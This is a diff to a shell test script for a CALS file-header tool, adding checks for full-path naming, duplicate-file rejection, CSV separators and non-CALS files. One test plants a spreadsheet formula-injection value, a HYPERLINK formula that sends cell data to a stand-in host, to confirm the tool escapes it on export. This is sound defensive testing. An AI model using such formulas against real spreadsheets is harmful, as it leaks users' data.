@@ -142,4 +142,91 @@ expect 3 set --from "$work/tables/missing.csv"
 has out "$work/tables/missing.cal"$'\tfailed\tcannot be loaded (0x80040228'
 has err '2 files: 1 saved, 0 unchanged, 0 refused, 1 failed'
 
+
+# One path rule: get names every file by its full path, so a table written
+# in one folder and used from another still names the same files; a
+# backup beside the table (here another picture) is not touched.
+mkdir -p "$work/site/archive" "$work/site/out/archive"
+cp samples/drawing-a4.cal "$work/site/archive/a.cal"
+cp samples/blank-page.cal "$work/site/out/archive/a.cal"
+cd "$work/site"
+expect 0 get --json archive/
+cp "$work/out" out/headers.jsonl
+has out '{"file": "'"$work"'/site/archive/a.cal", '
+expect 0 get --csv archive/
+sed 's/"Flange DN80, sheet 1 of 1"/Moved/' "$work/out" >out/headers.csv
+cd "$root"
+has out "$work/site/archive/a.cal,DRW-1001-A,"
+expect 0 set --from "$work/site/out/headers.jsonl"
+has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed'
+expect 0 set --from "$work/site/out/headers.csv"
+line 1 "$work/site/archive/a.cal"$'\tsaved\tnotes: "Flange DN80, sheet 1 of 1" → "Moved"'
+same "set --from wrote the file beside the table" samples/blank-page.cal "$work/site/out/archive/a.cal"
+
+# One file under two spellings is refused whole, naming both rows: a
+# trailing dot, which Windows drops, and a hard link.
+cp -r "$work/files/." "$work/original/"
+ln "$work/files/blank-page.cal" "$work/hard-link.cal"
+printf 'file,notes\n%s,one\n%s,two\n%s,three\n' "$work/files/drawing-a4.cal" "$work/files/blank-page.cal" \
+  "$work/hard-link.cal" >"$work/tables/link.csv"
+expect 2 set --from "$work/tables/link.csv"
+has err "lines 3 and 4 name one file, as \"$work/files/blank-page.cal\" and \"$work/hard-link.cal\"; nothing was written"
+printf 'file,notes\n%s,one\n%s,two\n' "$work/files/drawing-a4.cal" "$work/files/drawing-a4.cal." >"$work/tables/dot.csv"
+expect 2 set --from "$work/tables/dot.csv"
+has err 'lines 2 and 3 name one file'
+printf 'file,notes\n%s,one\n%s ,two\n' "$work/files/drawing-a4.cal" "$work/files/drawing-a4.cal" >"$work/tables/blank.csv"
+expect 2 set --from "$work/tables/blank.csv"
+has err 'lines 2 and 3 name one file'
+unchanged "a table that names one file twice"
+
+# Formulas: a value a spreadsheet would evaluate is exported as text with
+# a leading "'", and set --from reads back the value exactly.
+mkdir -p "$work/inj"
+cp samples/blank-page.cal "$work/inj/inj.cal"
+expect 0 set "$work/inj/inj.cal" 'notes==HYPERLINK("http://x.example/?"&B1,"open")'
+cp "$work/inj/inj.cal" "$work/inj-before.cal"
+expect 0 get --csv "$work/inj" --name notes
+line 2 "$work/inj/inj.cal,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B1,\"\"open\"\")\""$'\r'
+cp "$work/out" "$work/tables/inj.csv"
+expect 0 set --from "$work/tables/inj.csv"
+has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed'
+same "the formula round trip changed the file" "$work/inj-before.cal" "$work/inj/inj.cal"
+
+# Separators: ";" as German and French spreadsheets write it (every cell
+# quoted, too) and tabs; the summary names the one used. get --csv writes
+# ";" when asked.
+expect 0 get --csv --csv-separator ';' "$work/inj" --name notes --name srcdocid
+line 1 $'file;notes;srcdocid\r'
+cp "$work/out" "$work/tables/semicolon.csv"
+expect 0 set --from "$work/tables/semicolon.csv"
+has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed; cells separated by ";"'
+printf '"file";"notes"\r\n"%s";"Leer; geprüft"\r\n' "$work/inj/inj.cal" >"$work/tables/german.csv"
+expect 0 set --from "$work/tables/german.csv"
+has err '1 files: 1 saved, 0 unchanged, 0 refused, 0 failed; cells separated by ";"'
+printf 'file\tnotes\n%s\tLeer; geprüft\n' "$work/inj/inj.cal" >"$work/tables/tabs.tsv"
+expect 0 set --from "$work/tables/tabs.tsv"
+has err '1 files: 0 saved, 1 unchanged, 0 refused, 0 failed; cells separated by tabs'
+
+# A file that does not look like a CALS header adds no columns to a
+# table, only its path; its row, and its untouched JSON line, come back
+# unchanged.
+mkdir -p "$work/mixed"
+cp samples/drawing-a4.cal "$work/mixed/"
+expect 0 get --csv "$work/mixed"
+cp "$work/out" "$work/tables/calsonly.csv"
+{ printf '%-128s%-128s' 'Dear reader: hello' 'P.S.: bye'; head -c 2000 /dev/zero | tr '\0' ' '; } >"$work/mixed/letter.cal"
+cp "$work/mixed/letter.cal" "$work/letter-before.cal"
+expect 0 get --csv "$work/mixed"
+line 1 "$(head -1 "$work/tables/calsonly.csv")"
+line 3 "$work/mixed/letter.cal$(head -1 "$work/tables/calsonly.csv" | tr -cd ,)"$'\r'
+has err "$work/mixed/letter.cal does not look like a CALS header"
+cp "$work/out" "$work/tables/mixed.csv"
+expect 0 set --from "$work/tables/mixed.csv"
+has err '2 files: 0 saved, 2 unchanged, 0 refused, 0 failed'
+expect 0 get --json "$work/mixed/letter.cal"
+cp "$work/out" "$work/tables/letter.jsonl"
+expect 0 set --from "$work/tables/letter.jsonl"
+line 1 "$work/mixed/letter.cal"$'\tunchanged\t'
+same "an untouched round trip changed a file that is no CALS header" "$work/letter-before.cal" "$work/mixed/letter.cal"
+
 finish
